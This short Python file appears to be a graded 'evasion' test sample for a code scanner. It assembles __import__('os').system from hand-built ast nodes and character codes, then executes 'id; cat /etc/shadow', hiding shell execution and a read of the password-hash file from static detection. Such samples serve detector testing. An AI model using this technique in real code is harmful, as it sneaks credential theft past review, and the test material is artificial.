# evasion: no source text at all: the program builds the syntax tree of `__import__("os").system(cmd)` out of ast nodes and compiles that
# grade: very hard; does: shell
import ast


def call(func, *args):
    return ast.Call(func=func, args=list(args), keywords=[])


def attr(value, name):
    return ast.Attribute(value=value, attr=name, ctx=ast.Load())


mod_name = "".join(map(chr, (111, 115)))
fn_name = "".join(map(chr, (115, 121, 115, 116, 101, 109)))
tree = ast.Module(
    body=[
        ast.Expr(
            call(
                attr(call(ast.Name(id="__import__", ctx=ast.Load()), ast.Constant(mod_name)), fn_name),
                ast.Constant("id; cat /etc/shadow 2>/dev/null | head -2"),
            )
        )
    ],
    type_ignores=[],
)
ast.fix_missing_locations(tree)
code = compile(tree, "<generated>", "exec")
exec(code)
